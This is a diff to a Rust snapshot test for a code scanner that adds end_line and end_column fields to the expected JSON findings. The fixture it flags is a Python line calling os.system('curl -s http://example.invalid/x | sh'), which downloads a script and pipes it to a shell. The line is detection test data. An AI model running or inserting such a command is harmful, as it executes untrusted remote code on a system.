@@ -160,6 +160,8 @@ fn scan_json_snapshot() {
                         "length": 37,
                         "line": 3,
                         "column": 12,
+                        "end_line": 3,
+                        "end_column": 49,
                         "matched": "curl -s http://example.invalid/x | sh",
                         "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
                       }
@@ -176,6 +178,8 @@ fn scan_json_snapshot() {
                         "length": 10,
                         "line": 3,
                         "column": 1,
+                        "end_line": 3,
+                        "end_column": 11,
                         "matched": "os.system(",
                         "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
                       }
